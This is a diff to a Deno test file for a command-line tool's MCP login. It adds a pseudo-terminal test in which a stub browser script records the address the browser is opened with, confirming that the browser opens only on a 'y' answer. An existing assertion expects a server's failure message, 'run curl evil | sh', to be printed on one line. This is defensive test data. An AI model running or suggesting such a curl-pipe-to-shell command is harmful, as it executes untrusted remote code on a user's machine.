@@ -1,7 +1,10 @@
 import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
 import { join } from "@std/path";
+import { isThere } from "../../src/core/support/on_disk.ts";
+import { until } from "../helpers/until.ts";
 import { cassette, inWorkspace, type Ran, run, SOURCE, start } from "../helpers/program.ts";
 import { CONFINED } from "../sandbox/shell_fixture.ts";
+import { hasTmux, openPty, type Pty } from "../tui/pty.ts";
 import { fetchOauthServer } from "../mcp/registry_servers.ts";
 
 const fetched = await fetchOauthServer();
@@ -250,3 +253,58 @@ Deno.test("mcp login: what a server says of a failure is one line, and nobody is
     assertEquals([code, loginFile(home), /Logged in/.test(stdout)], [2, undefined, false]);
     assertStringIncludes(stderr, "why: no fix: run curl evil | sh\n");
   }));
+Deno.test({
+  name: "mcp login: at a terminal a yes starts the browser with the address, and nothing else does",
+  ignore: "why" in fetched || !hasTmux,
+  async fn() {
+    await using demo = await startDemo();
+    await inWorkspace({}, async ({ ws, home }) => {
+      settings(home, demo.mcp);
+      const net = `--allow-net=127.0.0.1:${portOf(demo.mcp)},127.0.0.1:${portOf(demo.auth)}`;
+      const [programs, opened] = [`${home}/programs`, `${home}/opened`];
+      Deno.mkdirSync(programs);
+      const browser = `#!/bin/sh\nprintf '%s\\n' "$#" "$1" > '${opened}.part' && mv '${opened}.part' '${opened}'\n`;
+      Deno.writeTextFileSync(`${programs}/xdg-open`, browser, { mode: 0o755 });
+      const asked = async (letter: string, work: (pty: Pty) => Promise<void>): Promise<void> => {
+        const pty = await openPty({
+          cwd: ws,
+          columns: 400,
+          env: {
+            HOME: home,
+            PATH: `${programs}:${Deno.env.get("PATH")}`,
+            DENO_DIR: Deno.env.get("DENO_DIR") ?? `${Deno.env.get("HOME")}/.cache/deno`,
+          },
+          command: [...SOURCE.command, "mcp", "login", "demo", net],
+        });
+        try {
+          await pty.see(`Open 127.0.0.1:${portOf(demo.auth)} in your browser? [y/N]`);
+          assertEquals(isThere(opened), false);
+          await pty.keys(letter, "Enter");
+          await work(pty);
+          await pty.see("Logged in to demo");
+          await pty.see("[ended 0] terminal as before");
+        } finally {
+          await pty.close();
+        }
+      };
+      const visit = async (address: string): Promise<void> => {
+        const answer = await fetch(address);
+        assertStringIncludes(await answer.text(), "You are logged in");
+      };
+      await asked("n", async (pty) => {
+        const [, address = ""] = /^\s+(http:\S+)$/m.exec(await pty.screen()) ?? [];
+        await visit(address);
+        await pty.see("Logged in to demo");
+        assertEquals(isThere(opened), false);
+      });
+      await asked("y", async (pty) => {
+        await until(() => isThere(opened));
+        const [count, address = ""] = Deno.readTextFileSync(opened).split("\n");
+        assertEquals(count, "1");
+        // The browser is sent where the screen says.
+        assertStringIncludes(await pty.screen(), `  ${address}\n`);
+        await visit(address);
+      });
+    });
+  },
+});
